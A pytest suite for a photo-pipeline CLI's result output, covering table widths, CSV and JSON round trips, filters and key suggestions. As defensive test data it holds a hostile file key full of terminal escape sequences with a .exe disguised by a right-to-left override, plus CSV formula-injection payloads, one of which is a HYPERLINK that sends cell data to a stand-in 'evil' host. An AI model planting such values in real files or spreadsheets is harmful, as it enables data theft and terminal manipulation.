"""What a terminal of 80 columns is sent: tables that fit, keys that are whole, and nothing that it would obey."""

import csv
import io
import json
import re
from collections.abc import Callable

import pytest

from darkroom.cli.results import CSV_COLUMNS, moment
from darkroom.cli.terminal import Column, draw, show_table, table
from darkroom.pipeline.results import nearest
from darkroom.pipeline.target import Target
from darkroom.text import plain
from tests.darkroom.conftest import darkroom

OURS = re.compile(r"\x1b\[[0-9;]*m")  # colours and bold, which Rich sends itself

HOSTILE = "raw/\x1b[2J\x1b]0;owned\x07a\nb\r\tc\x9b31m\u202egpj.exe"
LONG = "raw/2026/11/24/holidays at the sea/second week/a picture with a name that nobody would type again.jpg"


def put(target: Target, key: str, **row: object) -> None:
    whole = {"key": key, "status": "SUCCEEDED", "updated_at": "2024-05-01T10:00:00.000Z"}
    target.results.put_item(Item={**whole, **row})


@pytest.fixture
def rows(target: Target) -> Target:
    put(target, LONG, width=4000, height=3000, size=1244866, caption={"text": "Words " * 40})
    put(target, "raw/a.jpg", status="REJECTED", error={"code": "corrupt", "message": "Bytes " * 30})
    return target


@pytest.mark.usefixtures("rows")
@pytest.mark.parametrize("columns", [60, 80, 120])
def test_a_table_is_never_wider_than_its_terminal(on_terminal: Callable[..., tuple[int, str]], columns: int):
    code, sent = on_terminal("--aws", "results", columns=columns)
    assert code == 0
    assert [line for line in OURS.sub("", sent).splitlines() if len(line) > columns] == []


@pytest.mark.usefixtures("rows")
def test_at_80_columns_a_key_is_whole_over_several_lines_and_a_long_text_is_cut(
    on_terminal: Callable[..., tuple[int, str]],
):
    _, sent = on_terminal("--aws", "results")
    head, *lines = OURS.sub("", sent).splitlines()
    width = head.index("status")
    assert LONG.replace(" ", "") in "".join(line[:width] for line in lines).replace(" ", "")
    assert sum("…" in line for line in lines) == 2
    assert sum("SUCCEEDED" in line for line in lines) == 1


@pytest.mark.usefixtures("rows")
def test_what_has_no_room_is_named(on_terminal: Callable[..., tuple[int, str]], capsys: pytest.CaptureFixture[str]):
    _, sent = on_terminal("--aws", "results")
    assert "pixels" not in sent
    assert "Not shown because the terminal is too narrow: pixels, size, renditions" in capsys.readouterr().err
    _, sent = on_terminal("--aws", "results", columns=200)
    assert "4000x3000" in sent


@pytest.mark.usefixtures("rows")
def test_on_a_pipe_every_row_is_one_line_and_nothing_is_cut():
    result = darkroom("--aws", "results")
    assert len(result.stdout.splitlines()) == 3
    assert LONG in result.stdout
    assert "…" not in result.stdout


@pytest.mark.parametrize("columns", [("key", "", "said"), ("", "", "")])
def test_on_a_pipe_a_table_looks_as_where_there_is_room(capsys: pytest.CaptureFixture[str], columns: tuple[str, ...]):
    """Rich draws only the latter. Characters may be two columns wide, or none."""
    cells = [["raw/写真.jpg", "", "e\u0301t\u00e9"], ["raw/a.jpg", "42", ""], ["", "9,000,000", "a cat"]]
    show_table(columns, cells)
    piped = capsys.readouterr().out
    draw(table([Column(name) for name in columns], cells, 200)[0], 200)
    assert piped == capsys.readouterr().out


def test_widths_are_shared_and_the_least_needed_goes_first():
    columns = (
        Column("key", "folded"),
        Column("when", expendable=2),
        Column("what", expendable=1),
        Column("why", "cut"),
    )
    drawn, left_out = table(columns, [["k" * 30, "w" * 19, "x" * 19, "y" * 99]], 70)
    assert left_out == ["when"]
    assert [column.width for column in drawn.columns] == [23, 19, 24]


@pytest.mark.parametrize("command", ["results", "inspect", "executions"])
def test_what_is_in_a_key_is_shown_and_never_obeyed(
    command: str, target: Target, on_terminal: Callable[..., tuple[int, str]]
):
    """No escape code, no new line, no turn of direction; on a pipe as on a terminal."""
    event = {"detail": {"object": {"key": HOSTILE}}}
    started = target.states.start_execution(stateMachineArn=target.output("StateMachineArn"), input=json.dumps(event))
    put(target, HOSTILE, execution=started["executionArn"], error={"code": HOSTILE, "message": HOSTILE})
    asked = ["--aws", command, *([HOSTILE] if command == "inspect" else [])]
    code, sent = on_terminal(*asked)
    assert code == 0
    assert not re.search("[\x00-\x09\x0b-\x1f\x7f-\x9f\u202e]", OURS.sub("", sent))
    piped = darkroom(*asked)
    assert not re.search("[\x00-\x09\x0b-\x1f\x7f-\x9f\u202e]", piped.stdout)
    assert r"raw/\x1b[2J\x1b]0;owned\x07a\nb\r\tc\x9b31m\u202egpj.exe" in piped.stdout


def test_news_and_errors_are_as_harmless(target: Target):
    result = darkroom("--aws", "results", HOSTILE)
    assert result.exit_code == 1
    assert not re.search("[\x00-\x09\x0b-\x1f\x7f-\x9f\u202e]", result.stderr)
    put(target, HOSTILE)
    result = darkroom("--aws", "results", HOSTILE, "--status", "FAILED")
    assert not re.search("[\x00-\x09\x0b-\x1f\x7f-\x9f\u202e]", result.stderr)


def test_json_has_the_key_as_it_is_and_no_control_character(target: Target):
    put(target, HOSTILE)
    result = darkroom("--aws", "results", "--json")
    assert json.loads(result.stdout)[0]["key"] == HOSTILE
    assert not re.search("[\x00-\x09\x0b-\x1f\x7f-\x9f\u202e]", result.stdout)


def test_csv_is_read_back_as_it_was(target: Target):
    """Commas, quotes, new lines and control characters included; what a row lacks is empty."""
    put(
        target,
        HOSTILE,
        width=640,
        metadata={"camera": "NIKON D90", "gps": {"latitude": 45, "longitude": -2}},
        caption={"text": 'a "cat", and\nanother'},
        renditions={"large": {"width": 2048}, "small": {"width": 480}},
    )
    put(target, "raw/b,c.jpg", status="REJECTED", error={"code": "corrupt", "message": "ends, early"})
    result = darkroom("--aws", "results", "--csv")
    assert result.exit_code == 0
    names, *_ = csv.reader(io.StringIO(result.stdout))
    assert tuple(names) == CSV_COLUMNS
    read = {row["key"]: row for row in csv.DictReader(io.StringIO(result.stdout, newline=""))}
    assert read[HOSTILE]["caption"] == 'a "cat", and\nanother'
    assert (read[HOSTILE]["width"], read[HOSTILE]["height"], read[HOSTILE]["renditions"]) == ("640", "", "small large")
    assert [read[HOSTILE][name] for name in ("camera", "longitude", "taken_at")] == ["NIKON D90", "-2", ""]
    assert (read["raw/b,c.jpg"]["error_code"], read["raw/b,c.jpg"]["error_message"]) == ("corrupt", "ends, early")


FORMULAS = {
    '=HYPERLINK("http://evil/?"&A1)': '\'=HYPERLINK("http://evil/?"&A1)',
    "+1": "'+1",
    "-1": "'-1",
    "@SUM(A1)": "'@SUM(A1)",
    " =1": "' =1",
    "\t=1": "'\t'=1",
    "\uff1d1": "'\uff1d1",
    "a cat;=1": "a cat;'=1",
    "a cat\n=1": "a cat\n'=1",
    "a cat - and a half-moon = 2; 3": "a cat - and a half-moon = 2; 3",
    "raw/a=b+c.jpg": "raw/a=b+c.jpg",
}


@pytest.mark.parametrize(("text", "cell"), FORMULAS.items())
def test_no_cell_is_a_formula(target: Target, text: str, cell: str):
    """In no column: a caption is a model's, which a picture may talk to, and an error may be another program's."""
    put(
        target,
        text,
        format=text,
        caption={"text": text},
        error={"code": text, "message": text},
        version_id=text,
        execution=text,
        created_at=text,
    )
    result = darkroom("--aws", "results", "--csv")
    [read] = csv.DictReader(io.StringIO(result.stdout, newline=""))
    texts = {"key", "format", "caption", "error_code", "error_message", "version_id", "execution", "created_at"}
    assert {name: read[name] for name in texts} == dict.fromkeys(texts, cell)


def test_csv_on_a_terminal_is_as_harmless_as_a_table(target: Target, on_terminal: Callable[..., tuple[int, str]]):
    put(target, HOSTILE)
    _, sent = on_terminal("--aws", "results", "--csv")
    assert not re.search("[\x00-\x09\x0b-\x1f\x7f-\x9f\u202e]", sent)


def test_characters_that_people_write_are_left_alone():
    assert plain("raw/é 日本語 👩‍👩‍👧 العربية.jpg") == "raw/é 日本語 👩‍👩‍👧 العربية.jpg"


@pytest.mark.parametrize(
    ("options", "found"),
    [
        (["--since", "2024-05-02"], ["raw/c.jpg", "raw/b/2.jpg"]),
        (["--until", "2024-05-02"], ["raw/b/2.jpg", "raw/a.jpg"]),
        (["--until", "2024-05-02T10:00"], ["raw/a.jpg"]),
        (["--since", "2024-05-02T11:00+01:00", "--until", "2024-05-02"], ["raw/b/2.jpg"]),
        (["--prefix", "b/"], ["raw/b/2.jpg"]),
        (["--prefix", "raw/b"], ["raw/b/2.jpg"]),
        (["--limit", "1"], ["raw/c.jpg"]),
        (["--status", "REJECTED", "--since", "today"], []),
    ],
)
def test_rows_are_chosen_by_date_prefix_and_number(options: list[str], found: list[str], target: Target):
    for day, key in enumerate(("raw/a.jpg", "raw/b/2.jpg", "raw/c.jpg"), start=1):
        put(target, key, updated_at=f"2024-05-0{day}T10:00:00.000Z")
    result = darkroom("--aws", "results", *options, "--json")
    assert result.exit_code == 0
    assert [row["key"] for row in json.loads(result.stdout)] == found


def test_a_moment_is_said_as_people_say_it():
    from datetime import UTC, datetime

    now = datetime(2026, 11, 25, 10, 30, tzinfo=UTC)
    said = {text: moment(text, "--since", now=now) for text in ("today", "yesterday", "2h", "30m", "1w")}
    assert said == {
        "today": "2026-11-25T00:00:00.000",
        "yesterday": "2026-11-24T00:00:00.000",
        "2h": "2026-11-25T08:30:00.000",
        "30m": "2026-11-25T10:00:00.000",
        "1w": "2026-11-18T10:30:00.000",
    }
    assert moment("yesterday", "--until", whole_day=True, now=now) == "2026-11-25T00:00:00.000"


@pytest.mark.parametrize(
    "options",
    [
        ["--since", "yesterdy"],
        ["--until", "2024-13-01"],
        ["--since", "999999w"],
        ["--csv", "--json"],
        ["--csv", "--follow"],
        ["a.jpg", "--since", "today"],
        ["--follow", "--until", "today"],
        ["--limit", "0"],
    ],
)
@pytest.mark.usefixtures("target")
def test_what_cannot_be_meant_is_exit_code_2(options: list[str]):
    result = darkroom("--aws", "results", *options)
    assert (result.exit_code, result.stdout) == (2, "")


@pytest.mark.parametrize(
    ("typed", "meant"),
    [
        ("raw/phto.jpg", ["raw/photo.jpg"]),
        ("raw/photo.jpeg", ["raw/photo.jpg"]),
        ("raw/CAT.JPG", ["raw/album/cat.jpg"]),
        ("raw/zebra.jpg", []),
    ],
)
def test_the_nearest_keys_are_those_that_differ_by_little_or_are_elsewhere(typed: str, meant: list[str]):
    assert nearest(typed, ["raw/photo.jpg", "raw/album/cat.jpg", "raw/words.txt"]) == meant


@pytest.mark.parametrize("command", ["results", "inspect", "redrive"])
def test_a_mistyped_key_suggests_the_nearest(command: str, target: Target):
    put(target, "raw/photo.jpg")
    result = darkroom("--aws", command, "phto.jpg")
    assert result.exit_code == 1
    assert "did you mean 'raw/photo.jpg'?" in result.stderr
